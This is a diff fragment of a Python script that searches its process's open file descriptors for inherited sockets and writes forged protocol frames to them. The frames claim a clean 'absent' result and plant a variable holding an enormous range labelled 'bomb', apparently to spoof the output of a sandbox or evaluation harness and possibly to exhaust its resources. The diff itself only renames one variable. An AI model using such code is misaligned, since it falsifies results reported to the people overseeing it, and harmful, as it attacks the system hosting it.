@@ -32,8 +32,8 @@ bomb = ["rangeindex", 0, 10**18, 1, None]
 for fd in range(3, 64):
     try:
         if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
-            claim = {"result": ["absent"], "variables": [["ans", bomb]], "error": None, "diff": diff}
-            body = pack({**claim, "inferred": [], "inference_failed": False}, [b"", bytes(8)])
+            payload = {"result": ["absent"], "variables": [["ans", bomb]], "error": None, "diff": diff}
+            body = pack({**payload, "inferred": [], "inference_failed": False}, [b"", bytes(8)])
             for kind, part in ((10, b""), (12, b'{"error": null, "variables": [], "limits_hit": []}'), (13, body)):
                 os.write(fd, struct.pack("<BI", kind, len(part)) + part)
     except OSError:
